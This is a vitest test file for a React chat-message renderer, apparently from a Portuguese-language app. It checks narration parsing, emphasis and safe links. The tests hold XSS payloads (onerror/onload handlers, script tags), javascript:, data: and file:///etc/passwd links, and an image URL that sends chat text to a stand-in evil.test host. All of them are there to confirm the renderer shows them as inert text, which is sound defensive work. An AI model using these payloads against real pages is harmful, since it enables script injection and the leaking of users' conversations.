import '../../testing/console-guard.ts';
import { render } from '@testing-library/react';
import { describe, expect, it } from 'vitest';
import { RichText } from './components/rich-text.tsx';
import { parseMessage, plainText } from './rich-text.ts';

function drawn(content: string, streaming = false): HTMLElement {
  const blocks = parseMessage(content, streaming);
  return render(
    <div>
      {blocks.map((block) => (
        <p key={block.at} data-kind={block.kind}>
          <RichText parts={block.parts} />
        </p>
      ))}
    </div>,
  ).container;
}

function kinds(content: string, streaming = false): [string, string][] {
  return parseMessage(content, streaming).map((block) => [block.kind, block.parts.map((part) => part.text).join('')]);
}

describe('a message drawn', () => {
  it.each(['<img src=x onerror=alert(1)>', '<svg onload=alert(1)>', '</p><script>alert(1)</script>', '&lt;b&gt;'])(
    'shows %s as text, also while it streams',
    (payload) => {
      for (const streaming of [false, true]) {
        const container = drawn(payload, streaming);
        expect(container.textContent).toBe(payload);
        expect(container.querySelector('img, svg, script, b')).toBeNull();
      }
    },
  );

  it.each([
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert)',
    '[x](data:text/html,oi)',
    '[x](vbscript:x)',
    '[x](//evil.test)',
    '[x](file:///etc/passwd)',
  ])('keeps %s as plain text', (payload) => {
    const container = drawn(payload);
    expect(container.querySelector('a')).toBeNull();
    expect(container.textContent).toBe(payload);
  });

  it('asks for no picture that a reply names', () => {
    const container = drawn('![foto](https://evil.test/x.png?chat=segredo)');
    expect(container.querySelector('img, a')).toBeNull();
  });

  it('links to the web only, opening apart and without saying where from', () => {
    const link = drawn('veja [aqui](https://pt.wikipedia.org/wiki/Rede)').querySelector('a');
    expect(link?.getAttribute('href')).toBe('https://pt.wikipedia.org/wiki/Rede');
    expect(link?.rel).toContain('noopener');
    expect(drawn('https://cvv.org.br.').querySelector('a')?.getAttribute('href')).toBe('https://cvv.org.br/');
  });

  it('makes bold and italic of nodes', () => {
    const container = drawn('Isso é **muito** _bom_, snake_case_não.');
    expect(container.querySelector('strong')?.textContent).toBe('muito');
    expect(container.querySelector('em')?.textContent).toBe('bom');
    expect(container.textContent).toBe('Isso é muito bom, snake_case_não.');
  });
});

describe('narration', () => {
  it('is what stands on its own between asterisks', () => {
    expect(kinds('*afina o violão*\nOlha quem chegou.')).toEqual([
      ['narration', 'afina o violão'],
      ['speech', 'Olha quem chegou.'],
    ]);
    expect(kinds('Vem cá. *abre espaço* Senta.')).toEqual([
      ['speech', 'Vem cá.'],
      ['narration', 'abre espaço'],
      ['speech', 'Senta.'],
    ]);
  });

  it('is not a word stressed inside a sentence', () => {
    expect(kinds('Eu *adoro* isso')).toEqual([['speech', 'Eu adoro isso']]);
    expect(kinds('2 * 3 * 4')).toEqual([['speech', '2 * 3 * 4']]);
  });

  it('begins while it is still being written', () => {
    expect(kinds('*dedilha três', true)).toEqual([['narration', 'dedilha três']]);
    expect(kinds('Fecha os olhos. *dedilha', true)).toEqual([
      ['speech', 'Fecha os olhos.'],
      ['narration', 'dedilha'],
    ]);
    expect(kinds('Fecha os olhos. *', true)).toEqual([['speech', 'Fecha os olhos. ']]);
  });

  it('keeps line breaks of speech', () => {
    expect(kinds('um\ndois\n\ntrês')).toEqual([['speech', 'um\ndois\n\ntrês']]);
  });
});

describe('plain words', () => {
  it('are the message on one line', () => {
    expect(plainText('*sorri*\nOi, **você**!\n\nTudo bem?')).toBe('sorri Oi, você! Tudo bem?');
  });

  it('are found in good time in a long odd text', () => {
    for (const piece of ['*', '[', '_a', '**', '![](']) {
      expect(plainText(piece.repeat(4_000 / piece.length)).length).toBeGreaterThan(0);
    }
  });
});
